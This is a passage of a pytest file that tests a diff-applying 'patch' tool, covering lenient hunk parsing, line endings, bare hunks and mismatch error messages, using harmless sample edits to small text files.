    assert (workspace.root / "a.txt").read_text() == "one\nTWO\n2.5\nlast\nthree\n"


@pytest.mark.parametrize(
    "header", ["@@ -1,2 +1,2 @@", "@@ -1,9 +1,9 @@", "@@ -1 +1 @@", "@@ -1,3 +1,3 @@", "@@ -1,0 +1,0 @@"]
)
def test_a_hunk_is_counted_from_its_body_whatever_its_header_counts(
    workspace: Workspace, header: str
) -> None:
    (workspace.root / "a.txt").write_text("one\ntwo\nthree\n")

    result = patch(workspace, f"--- a/a.txt\n+++ b/a.txt\n{header}\n one\n-two\n+TWO\n three\n\n")

    assert result.is_error is False, result.text
    assert (workspace.root / "a.txt").read_text() == "one\nTWO\nthree\n"


def test_a_format_patch_signature_after_the_last_hunk_is_not_part_of_it(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("one\ntwo\n")

    result = patch(workspace, "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n-- \n2.43.0\n")

    assert result.is_error is False, result.text
    assert (workspace.root / "a.txt").read_text() == "one\nTWO\n"


@pytest.mark.parametrize(
    "text",
    [
        "--- a.txt\n+++ a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n",
        "--- a/a.txt\n+++ a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n",
        "diff --git a.txt a.txt\n--- a.txt\n+++ a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n",
        "--- a/a.txt\n+++ b/a.txt\n@@\n one\n-two\n+TWO\n",
        "--- a/a.txt\n+++ b/a.txt\n@@ @@\n-two\n+TWO\n",
        "--- a/a.txt\n+++ b/a.txt\n@@ def one():\n one\n-two\n+TWO\n",
        "--- a/a.txt\r\n+++ b/a.txt\r\n@@ -1,2 +1,2 @@\r\n one\r\n-two\r\n+TWO\r\n",
        "--- a/a.txt\n+++ b/a.txt\n@@ -1,4 +1,4 @@\n one\n-two\n+TWO\n\n three\n",
    ],
    ids=[
        "no prefixes",
        "one prefix",
        "git without prefixes",
        "bare",
        "bare pair",
        "bare with a name",
        "crlf",
        "blank",
    ],
)
def test_a_patch_as_models_write_it_applies(workspace: Workspace, text: str) -> None:
    (workspace.root / "a.txt").write_text("one\ntwo\n\nthree\n")

    result = patch(workspace, text)

    assert result.is_error is False, result.text
    assert (workspace.root / "a.txt").read_text() == "one\nTWO\n\nthree\n"


def test_bare_hunks_apply_in_order_each_after_the_one_before(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("x = 1\ny = 2\nx = 1\ny = 2\n")

    result = patch(
        workspace, "--- a/a.txt\n+++ b/a.txt\n@@\n x = 1\n-y = 2\n+y = 3\n@@\n x = 1\n-y = 2\n+y = 4\n"
    )

    assert result.is_error is False, result.text
    assert (workspace.root / "a.txt").read_text() == "x = 1\ny = 3\nx = 1\ny = 4\n"


def test_a_bare_hunk_that_only_adds_lines_is_refused(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("one\n")

    result = patch(workspace, "--- a/a.txt\n+++ b/a.txt\n@@\n+two\n")

    assert result.is_error is True
    assert "cannot be placed" in result.text
    assert (workspace.root / "a.txt").read_text() == "one\n"


def test_an_lf_patch_keeps_a_crlf_file_crlf(workspace: Workspace) -> None:
    (workspace.root / "w.txt").write_bytes(b"x\r\ny\r\nz\r\n")

    result = patch(workspace, "--- a/w.txt\n+++ b/w.txt\n@@ -1,2 +1,3 @@\n x\n-y\n+Y\n+Y2\n")

    assert result.is_error is False, result.text
    assert (workspace.root / "w.txt").read_bytes() == b"x\r\nY\r\nY2\r\nz\r\n"


def test_a_hunk_that_does_not_apply_names_the_line_that_differs_and_its_nearest_place(
    workspace: Workspace,
) -> None:
    (workspace.root / "a.py").write_text("import os\n\n\ndef f():\n    x = 1\n    return x\n")

    result = patch(
        workspace,
        "--- a/a.py\n+++ b/a.py\n@@ -1,3 +1,3 @@\n def f():\n   x = 1\n-    return x\n+    return 2\n",
    )

    assert result.is_error is True
    assert result.text.endswith(
        "Its nearest place is at line 4 (3 of its 3 lines are alike there); its line 2 ('  x = 1') differs "
        "from the file's line 5, which reads '    x = 1'. Only whitespace differs: copy the line exactly, "
        "indentation included."
    )
